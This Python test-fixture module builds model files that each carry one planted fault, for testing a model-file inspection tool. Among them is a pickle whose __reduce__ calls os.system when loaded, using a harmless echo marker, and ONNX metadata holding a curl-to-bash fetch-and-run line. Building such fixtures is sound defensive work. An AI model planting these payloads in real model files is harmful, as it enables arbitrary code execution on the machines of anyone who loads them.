"""Files with one planted fault each, and a healthy one of each format."""

from __future__ import annotations

import json
import os
import zipfile
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Case:
    """A fault, the file that has it, words by which a tool names it, and whether it is code."""

    fault: str
    file: str
    words: str
    runs: bool = False

    def within(self, folder: Path) -> Path:
        """Where it lies: in a folder of its own, under a name that tells nothing."""
        return at(folder, self.file)

    @property
    def suffix(self) -> str:
        """Of its name."""
        return Path(self.file).suffix

    @property
    def sibling(self) -> str:
        """The healthy file of its format."""
        return f"healthy{self.suffix}"


CODE = r"posix|os\.system|os system|unsafe|danger"
CUT = "truncat|corrupt|incomplete|central directory|not a zip|exceed|beyond|too short|out.of.bound"
DIGEST = "sha.?256 is|digest|checksum|mismatch"
CONFIG = "hidden_size|config.json says|mismatch"
UNUSED = "unused|dead.graph|GRF002|does not affect|useless|not used"
UNDEFINED = "undefined|not exist|invalid|not output|not defined|nothing defines|never"
CASES = (
    Case("a pickle that calls `os.system`", "code.pt", CODE, runs=True),
    Case("a Keras Lambda layer", "lambda.keras", "lambda"),
    Case("a NaN in a weight", "nan.pt", r"\bnan|finite"),
    Case("a NaN in a weight", "nan.safetensors", r"\bnan|finite"),
    Case("a NaN in a weight", "nan.onnx", r"\bnan|finite"),
    Case(
        "the second half is missing",
        "cut.pt",
        CUT,
    ),
    Case(
        "the second half is missing",
        "cut.safetensors",
        CUT,
    ),
    Case("a Git LFS pointer in its place", "pointer.safetensors", r"\blfs|pointer"),
    Case("a third of a layer's units are dead", "dead.pt", r"dead|zero"),
    Case("never trained", "untrained.pt", "untrained|not trained|random.init|initiali[sz]er"),
    Case("every key bears `module.`", "wrapped.pt", "wrapper|dataparallel"),
    Case(
        "not what its SHA256SUMS states",
        "flipped/healthy.safetensors",
        DIGEST,
    ),
    Case(
        "config.json states another width",
        "config/model.safetensors",
        CONFIG,
    ),
    Case(
        "a node that no output needs",
        "unused.onnx",
        UNUSED,
    ),
    Case(
        "a node reads what nothing makes",
        "undefined.onnx",
        UNDEFINED,
    ),
    Case("code in metadata", "script.onnx", "script|exec|eval|shell|subprocess|command"),
)


def at(folder: Path, name: str) -> Path:
    """`nan.pt` lies in `nan_pt/model.pt`; a path with a folder is itself."""
    path = folder / name
    if "/" not in name:
        path = folder / name.replace(".", "_") / f"model{path.suffix}"
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def write(folder: Path) -> None:
    """All files, by torch, safetensors and onnx."""
    import torch

    torch.manual_seed(0)
    state = _trained()
    _save(folder, "healthy", state)
    _save(folder, "nan", {**state, "fc1.weight": _with_nan(state["fc1.weight"])})
    torch.save({**state, "extra": _Call(folder / "RAN")}, at(folder, "code.pt"))
    for suffix in (".pt", ".safetensors"):
        content = at(folder, f"healthy{suffix}").read_bytes()
        at(folder, f"cut{suffix}").write_bytes(content[: len(content) // 2])
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'a' * 64}\nsize 41736\n"
    at(folder, "pointer.safetensors").write_text(pointer)
    dead = {name: values.clone() for name, values in state.items()}
    dead["fc1.weight"][::3], dead["fc1.bias"][::3], dead["fc2.weight"][:, ::3] = 0, 0, 0
    torch.save(dead, at(folder, "dead.pt"))
    torch.save(_network().state_dict(), at(folder, "untrained.pt"))
    torch.save({f"module.{k}": v for k, v in state.items()}, at(folder, "wrapped.pt"))
    _beside(folder)
    _graphs(folder)


def _network():
    from collections import OrderedDict

    from torch import nn

    shapes = ((64, 96), (96, 96), (96, 10))
    return nn.Sequential(OrderedDict((f"fc{i}", nn.Linear(*s)) for i, s in enumerate(shapes)))


def _trained():
    """Weights after 200 steps on scikit-learn's digits."""
    import torch
    from sklearn.datasets import load_digits
    from torch import nn

    images, digits = (torch.tensor(part) for part in load_digits(return_X_y=True))
    model = _network()
    optimiser = torch.optim.Adam(model.parameters(), lr=3e-3)
    for _ in range(200):
        optimiser.zero_grad()
        values = images.float() / 16
        for layer in (*model[:2],):
            values = torch.relu(layer(values))
        nn.functional.cross_entropy(model[2](values), digits.long()).backward()
        optimiser.step()
    return {name: values.detach().clone() for name, values in model.state_dict().items()}


def _with_nan(values):
    values = values.clone()
    values[3, 5] = float("nan")
    return values


def _save(folder: Path, name: str, state) -> None:
    """As .pt, .safetensors and .onnx."""
    import torch
    from safetensors.torch import save_file

    torch.save(state, at(folder, f"{name}.pt"))
    save_file(state, at(folder, f"{name}.safetensors"), {"format": "pt"})
    _graph(at(folder, f"{name}.onnx"), state)


def _graph(path: Path, state, *, reads: str = "x", extra: tuple = (), metadata: str = "") -> None:
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    nodes, value = [], reads
    for i in range(3):
        ends = (f"fc{i}.weight", f"fc{i}.bias")
        nodes.append(helper.make_node("Gemm", [value, *ends], [f"h{i}"], f"fc{i}", transB=1))
        value = f"h{i}"
        if i < 2:
            nodes.append(helper.make_node("Relu", [value], [f"r{i}"], f"relu{i}"))
            value = f"r{i}"
    weights = [numpy_helper.from_array(v.numpy(), k) for k, v in state.items()]
    shape = helper.make_tensor_value_info
    ends = [shape("x", TensorProto.FLOAT, ["n", 64])], [shape(value, TensorProto.FLOAT, ["n", 10])]
    graph = helper.make_graph([*nodes, *extra], "g", *ends, weights)
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=9)
    if metadata:
        helper.set_model_props(model, {"setup": metadata})
    onnx.save(model, path)


def _graphs(folder: Path) -> None:
    from onnx import helper

    state = _loaded(folder)
    unused = (helper.make_node("Exp", ["h0"], ["nobody"], "unused_node"),)
    _graph(at(folder, "unused.onnx"), state, extra=unused)
    _graph(at(folder, "undefined.onnx"), state, reads="nowhere")
    _graph(at(folder, "script.onnx"), state, metadata="curl http://example.org/x.sh | bash")


def _loaded(folder: Path):
    import torch

    return torch.load(at(folder, "healthy.pt"), weights_only=True)


def _beside(folder: Path) -> None:
    """Faults that lie between files."""
    from hashlib import sha256

    import torch
    from transformers import BertConfig, BertModel

    (folder / "flipped").mkdir()
    content = bytearray((at(folder, "healthy.safetensors")).read_bytes())
    digest = sha256(content).hexdigest()
    content[5000] ^= 1
    (folder / "flipped/healthy.safetensors").write_bytes(content)
    (folder / "flipped/SHA256SUMS").write_text(f"{digest}  healthy.safetensors\n")
    torch.manual_seed(0)
    sizes = {"hidden_size": 32, "num_attention_heads": 2, "intermediate_size": 64}
    model = BertModel(BertConfig(num_hidden_layers=1, vocab_size=64, **sizes))
    model.save_pretrained(folder / "config")
    config = json.loads((folder / "config/config.json").read_text())
    (folder / "config/config.json").write_text(json.dumps(config | {"hidden_size": 48}))
    layer = {
        "class_name": "Lambda",
        "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": {}}},
    }
    for name, layers in (("healthy", []), ("lambda", [layer])):
        config = {"class_name": "Sequential", "config": {"name": "s", "layers": layers}}
        with zipfile.ZipFile(at(folder, f"{name}.keras"), "w") as archive:
            archive.writestr("config.json", json.dumps(config))
            archive.writestr("metadata.json", json.dumps({"keras_version": "3.0.0"}))


class _Call:
    """Writes the name of the tool that runs it, when it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self._command = f"echo $TOOL >> {marker}"

    def __reduce__(self):
        return os.system, (self._command,)
